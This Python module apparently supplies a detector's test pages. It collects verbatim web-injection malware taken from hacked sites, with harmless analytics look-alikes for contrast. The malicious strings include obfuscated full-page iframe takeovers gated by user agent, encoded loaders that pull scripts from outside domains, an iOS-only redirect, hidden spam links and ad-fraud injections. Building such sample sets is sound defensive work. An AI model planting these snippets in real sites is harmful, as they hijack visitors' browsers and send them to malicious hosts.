# -*- coding: utf-8 -*-
"""Injected code and look-alike code used by build.py.

Every string here is copied from a stored public file or thread (see SOURCES.md for the
index id / thread of each); changes are listed in the NOTE next to it. Nothing here is run
by build.py: it is placed into pages as page bytes.
"""

# A. full-page iframe takeover for every visitor whose user agent is not a search-engine
#    spider (the regex looks for '.baidu.xx/'-style spider markers in the UA), one casino-mirror
#    host (code index id 16052910917). Verbatim, incl. its trailing '}' that closes the if-block;
#    the two '.style.display()' calls throw and are caught, so other children stay, but the
#    written full-size frame covers the page (body overflow hidden).
SHOWCLONE_UA = r'''var regexp=/\.(sogou|soso|sm|yisou|sogo|youdao|baidu|yahoo|bing|118114|biso|qq|so|360|google|163|search|zhongsou|3721|alexa)(\.[a-z0-9\-]+){1,2}\//ig;
var where =document.referrer;
var UA = (navigator.userAgent).toLowerCase();



if(!regexp.test(UA)){
	var ss = '<div id="showcloneshengxiaon" style="height: 100%; width: 100%; background-color: rgb(255, 255, 255); background-position: initial initial; background-repeat: initial initial;"><ifr' + 'ame scrolling="yes" marginheight=0 marginwidth=0  frameborder="0" width="100%" width="14' + '00" height="100%" src="//www.diyipa.com"></iframe></div><style type="text/css">html{width:100%;height:100%}body {width:100%;height:100%;overflow:hidden}</style>';
eval("do" + "cu" + "ment.wr" + "ite('" + ss + "');");
try {
  setInterval(function() {
    try {
      document.getElementById("div" + "All").style.display();
    } catch (e) {}
    for (var i = 0; i < document.body.children.length; i++) {
      try {
        var a = document.body.children[i].tagName;
        var b = document.body.children[i].id;
        if (b != "iconDiv1" && b != "showcloneshengxiaon") {
          document.body.children[i].style.display();
        }
      } catch (e) {}
    }
  }, 100)
} catch (e) {}


}
'''

# B. three script tags found in a video CMS's site-statistics slot ({$maccms.site_tj}) after a
#    hack: a hit counter, a geo-IP lookup and a 'tongji.js' from a betting-brand domain, which
#    sent visitors to ad sites (GitHub issue magicblack/maccms10#232, '苹果CMSV10统计代码挂马').
#    Verbatim lines.
STATS_SLOT_TAGS = '''<script language="javascript" src="http://count6.51yes.com/click.aspx?id=61282642&logo=12" charset="gb2312"></script>
<script src="http://pv.sohu.com/cityjson?ie=utf-8"></script>
<script src="http://dafapai.com/tongji.js?ip=pas33"></script>'''

# C. fake Baidu Tongji wrapper (empty src) + full-page frame of a page planted on the same
#    site (/a.htm), names obfuscated (code index id 48227683981). Verbatim.
SHOWCLONE_LOCAL = '''var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "   ";//百度统计https://hm.baidu.com/hm.js?2a0fcfa6e71f523179e2661a401e2d55
  var s = document.getElementsByTagName("script")[0]; 
  s.parentNode.insertBefore(hm, s);
})();

var IsYqkUK1 = window["document"]['title'];
setFrame("/a.htm");

function setFrame(qpFkEczo2) {
    var FwMpGJYz3 = '<title>' + IsYqkUK1 + '</title><div id="showcloneshengxiaon" style="height: 100%; width: 100%; background-color: rgb(255, 255, 255); background-position: initial initial; background-repeat: initial initial;"><iframe scrolling="yes" marginheight=0 marginwidth=0  frameborder="0" width="100%" height="100%" src="' + qpFkEczo2 + '"></iframe></div><style type="text/css">html{width:100%;height:100%;}body {width:100%;height:100%;}</style>';
    window["eval"]("document.write('" + FwMpGJYz3 + "');");
    try {
        setTimeout(function() {
            console['log'](window["document"]['body']['children']['length']);
            for (var GKB4 = 0; GKB4 < window["document"]['body']['children']['length']; GKB4++) {
                try {
                    var Iyt5 = window["document"]['body']['children'][GKB4]['tagName'];
                    var U6 = window["document"]['body']['children'][GKB4]['id'];
                    console['log'](GKB4 + "***" + Iyt5 + "**" + U6);
                    if (U6 != "iconDiv1" && U6 != "showcloneshengxiaon" && Iyt5 != "title") {
                        window["document"]['body']['children'][GKB4]['style']['display'] = "none"
                    }
                } catch (e) {}
            }
            var uF7 = window["document"]['createElement']('meta');
            uF7['name'] = 'viewport';
            uF7['content'] = 'width=device-width,initial-scale=1,minimum-scale=1,maximum-scale=1,user-scalable=no';
            window["document"]['getElementsByTagName']('head')[0]['appendChild'](uF7)
        }, 100)
    } catch (e) {}
}'''

# D. full-page frame of the same URL on a random third-level host of a mirror domain
#    (code index id 24488512753). Verbatim.
SHOWCLONE_MIRROR = r'''var titlestr=document.title;

// 生成随机三级域名前缀
function generateRandomSubdomain() {
    var chars = 'abcdefghijklmnopqrstuvwxyz0123456789';
    var result = '';
    for (var i = 0; i < 8; i++) {
        result += chars.charAt(Math.floor(Math.random() * chars.length));
    }
    return result;
}

// 动态获取当前域名和参数，将index.html改为mian.html，并使用随机三级域名
function getCurrentUrlWithMian() {
    var currentUrl = window.location.href;
    var randomSubdomain = generateRandomSubdomain();
    var newDomain = 'https://' + randomSubdomain + '.11.bhmv.tv';
    
    // 如果URL中包含index.html，则替换为mian.html
    if (currentUrl.indexOf('index.html') !== -1) {
        return currentUrl.replace(/https?:\/\/[^\/]+/, newDomain).replace(/index\.html/, 'mian.html');
    }
    
    // 如果URL中没有index.html，则添加mian.html
    // 处理不同的URL格式
    if (currentUrl.indexOf('?') !== -1) {
        // 如果有参数，在域名后添加mian.html
        return currentUrl.replace(/https?:\/\/[^\/]+/, newDomain) + '/mian.html';
    } else {
        // 如果没有参数，直接添加mian.html
        return currentUrl.replace(/https?:\/\/[^\/]+/, newDomain) + '/mian.html';
    }
}

setFrame(getCurrentUrlWithMian());


function setFrame(olink){
    var ss = '<title>'+titlestr+'</title>\
<div id="showcloneshengxiaon" style="height:100%;width:100%;background:#fff;overflow:hidden;">\
<ifr' + 'ame scrolling="yes" marginheight=0 marginwidth=0 frameborder="0" \
width="100%" height="100%" style="border:none;display:block;" src="'+olink+'"></iframe>\
</div>\
<style type="text/css">\
html,body{width:100%;height:100%;margin:0;padding:0;overflow:hidden;}\
</style>';

    eval("do" + "cu" + "ment.wr" + "ite('" + ss + "');");
    try {
      setTimeout(function() {
        console.log(document.body.children.length);
        for (var i = 0; i < document.body.children.length; i++) {
          try {
            var a = document.body.children[i].tagName;
            var b = document.body.children[i].id;
            console.log(i+"***"+a+"**"+b);
            if (b != "iconDiv1" && b != "showcloneshengxiaon" && a!="title") {
              document.body.children[i].style.display = "non" + "e"
            }
          } catch (e) {}
        }
        
         var oMeta = document.createElement('meta');
        oMeta.name = 'viewport';
        oMeta.content = 'width=device-width,initial-scale=1,minimum-scale=1,maximum-scale=1,user-scalable=no';
        document.getElementsByTagName('head')[0].appendChild(oMeta);
        
      }, 100)
    } catch (e) {}
}'''

# E. percent-encoded document.write of an external popup script, in <head> of an infected
#    page template committed to a public repository (code index id 337970842). Verbatim block.
UNESCAPE_POPUP_BLOCK = '''<script type='text/javascript' language='Javascript'>
<!--
document.write(unescape('%3C%73%63%72%69%70%74%20%74%79%70%65%3D%22%74%65%78%74%2F%6A%61%76%61%73%63%72%69%70%74%22%20%73%72%63%3D%22%68%74%74%70%3A%2F%2F%65%6E%61%6C%6C%61%2E%77%65%62%73%2E%63%6F%6D%2F%70%6F%70%75%70%2E%6A%73%22%3E%3C%2F%73%63%72%69%70%74%3E'));
//-->
</script>'''

# F. percent-encoded document.write of an iOS-only redirect (iPhone/iPad/iPod -> '1/index.html'),
#    right after <body> of a cloaked page committed to a public repository (code index id
#    24676560052). Verbatim block.
UNESCAPE_IOS_BLOCK = '''<script>
document.write(unescape('%3C%73%63%72%69%70%74%3E%0A%28%66%75%6E%63%74%69%6F%6E%28%29%20%7B%0A%20%20%20%20%2F%2F%20%43%68%65%63%6B%20%69%66%20%74%68%65%20%75%73%65%72%20%69%73%20%6F%6E%20%69%50%68%6F%6E%65%20%6F%72%20%69%50%61%64%0A%20%20%20%20%76%61%72%20%75%73%65%72%41%67%65%6E%74%20%3D%20%6E%61%76%69%67%61%74%6F%72%2E%75%73%65%72%41%67%65%6E%74%2E%74%6F%4C%6F%77%65%72%43%61%73%65%28%29%3B%0A%20%20%20%20%76%61%72%20%69%73%49%4F%53%20%3D%20%2F%69%70%68%6F%6E%65%7C%69%70%61%64%7C%69%70%6F%64%2F%2E%74%65%73%74%28%75%73%65%72%41%67%65%6E%74%29%3B%0A%20%20%20%20%0A%20%20%20%20%69%66%20%28%69%73%49%4F%53%29%20%7B%0A%20%20%20%20%20%20%20%20%2F%2F%20%52%65%64%69%72%65%63%74%20%74%6F%20%61%70%70%6C%65%2E%68%74%6D%6C%0A%20%20%20%20%20%20%20%20%77%69%6E%64%6F%77%2E%6C%6F%63%61%74%69%6F%6E%2E%68%72%65%66%20%3D%20%27%31%2F%69%6E%64%65%78%2E%68%74%6D%6C%27%3B%0A%20%20%20%20%7D%0A%7D%29%28%29%3B%0A%3C%2F%73%63%72%69%70%74%3E'));
</script>'''

# G. display:none <strong> holding a money-making spam link, appended to a committed README
#    (code index id 44366404971). Verbatim line.
HIDDEN_STRONG_LINK = '''<h2><strong style="display:none"><a href="http://www.du-pognon.com">gagner de l'argent sur internet</a> c'est facile !</strong></h2>'''

# H. reversed-string hex-array document.write loader injected into every JS file of a hacked
#    WordPress site (GitHub issue FGF-College-Work/Forum#96). Verbatim line.
REVERSED_HEX_LOADER = r'''var _0xaae8=["","\x6A\x6F\x69\x6E","\x72\x65\x76\x65\x72\x73\x65","\x73\x70\x6C\x69\x74","\x3E\x74\x70\x69\x72\x63\x73\x2F\x3C\x3E\x22\x73\x6A\x2E\x79\x72\x65\x75\x71\x6A\x2F\x38\x37\x2E\x36\x31\x31\x2E\x39\x34\x32\x2E\x34\x33\x31\x2F\x2F\x3A\x70\x74\x74\x68\x22\x3D\x63\x72\x73\x20\x74\x70\x69\x72\x63\x73\x3C","\x77\x72\x69\x74\x65"];document[_0xaae8[5]](_0xaae8[4][_0xaae8[3]](_0xaae8[0])[_0xaae8[2]]()[_0xaae8[1]](_0xaae8[0]))'''

# I. String.fromCharCode script insertion found in a WordPress analytics plugin's tracking-code
#    option (GitHub issue matomo-org/WP-Matomo#66). Verbatim block.
CHARCODE_APPEND_BLOCK = '''<script>var sc = document.createElement(String.fromCharCode(115, 99, 114, 105, 112, 116)); sc.src=String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 106, 97, 114, 46, 116, 114, 97, 102, 102, 105, 99, 98, 101, 116, 116, 101, 114, 46, 98, 105, 122, 47, 115, 46, 106, 115); sc.type = String.fromCharCode(116, 101, 120, 116, 47, 106, 97, 118, 97, 115, 99, 114, 105, 112, 116); document.getElementsByTagName(String.fromCharCode(104, 101, 97, 100))[0].appendChild(sc);</script>'''

# J. ad-monetisation scripts appended to every post by an SQL injection (GitHub issue
#    interconnectit/Search-Replace-DB#230). Verbatim as quoted; the thread's quote stops at the
#    final '<' of the last closing tag, so '/script>' is added (the only change). The last
#    inline block, as quoted, sits on one line after '//<![CDATA[' (so it is all a comment;
#    it also lacks a comma) and does nothing; the config and the three external loaders
#    before it act.
ADLINK_APPEND_BLOCK = '''<script type="text/javascript"> var adlinkfly_url = 'https://cutwin.com/'; var adlinkfly_api_token = 'f6624368d190e8c1819f49dc4d5fcb633a4d9641'; var adlinkfly_advert = 2; var adlinkfly_exclude_domains = ['example.com', 'yoursite.com']; </script> <script src='//cutwin.com/js/full-page-script.js'></script> <script type="text/javascript" src="//go.pub2srv.com/apu.php?zoneid=683723"></script><script async="async" type="text/javascript" src="//go.mobisla.com/notice.php?p=683724&interactive=1&pushup=1"></script><script type="text/javascript">//<![CDATA[ (function() { var configuration = { "token": "11f0dc1ed8453e409e04d86bea962f34" "exitScript": { "enabled": true }, "popUnder": { "enabled": true } }; var script = document.createElement('script'); script.async = true; script.src = '//cdn.shorte.st/link-converter.min.js'; script.onload = script.onreadystatechange = function () {var rs = this.readyState; if (rs && rs != 'complete' && rs != 'loaded') return; shortestMonetization(configuration);}; var entry = document.getElementsByTagName('script')[0] entry.parentNode.insertBefore(script, entry); })(); //]]></script>'''

# K. the <script> tag a malicious WordPress plugin ('sleeep') echoes on every page; its src is
#    written in the plugin as chr() codes, decoded in a public write-up (code index id
#    18570538240). REBUILT: the tag is assembled from the write-up's decoded URL and the
#    echo's visible start ('<script type="text/javascript" src="'), as the plugin serves it.
PLUGIN_ECHO_TAG = '''<script type="text/javascript" src="https://ftp.lovegreenpencils.ga/DCHFbhcd?frm5fe4bcb9b1c9b=script5fe4bcb9b1c9c&_cid=8412e880-d1de-9c9b-ec4d-bf6106928e8a"></script>'''

# ---- look-alikes (harmless, the site's own kind of code) ----

# L1. genuine Baidu Tongji call (code index id 46516322101). Verbatim.
TONGJI = '''var _hmt = _hmt || [];
(function() {
\tvar hm = document.createElement("script");
\thm.src = "https://hm.baidu.com/hm.js?b393d153aeb26b46e9431fabaf0f6190";
\tvar s = document.getElementsByTagName("script")[0];
\ts.parentNode.insertBefore(hm, s);
})();'''

# L2. a site's own referrer-gated redirect (Baidu referrer -> same URL over https), from a
#     blog post committed to a public repository (code index id 5716294419). Verbatim block.
OWN_HTTPS_REDIRECT_BLOCK = '''    <!-- 判断百度爬虫 -->
    <script>
        $(function(){
        var s=document.referrer;    //获取来源地址
        var targetProtocol = "https:";
        if(s.indexOf("baidu")>0){
            if (window.location.protocol != targetProtocol){
            window.location.href = targetProtocol + window.location.href.substring(window.location.protocol.length);  //跳转到HTTPs
            }
        }
        });
    </script>
    <!-- 判断百度爬虫END -->'''

# L3. genuine CNZZ statistics call (code index id 26112105408). Verbatim.
CNZZ_BLOCK = '''<script type="text/javascript">var cnzz_protocol = (("https:" == document.location.protocol) ? " https://" : " http://");document.write(unescape("%3Cspan id='cnzz_stat_icon_1256273064'%3E%3C/span%3E%3Cscript src='" + cnzz_protocol + "s4.cnzz.com/z_stat.php%3Fid%3D1256273064%26show%3Dpic1' type='text/javascript'%3E%3C/script%3E"));</script>'''
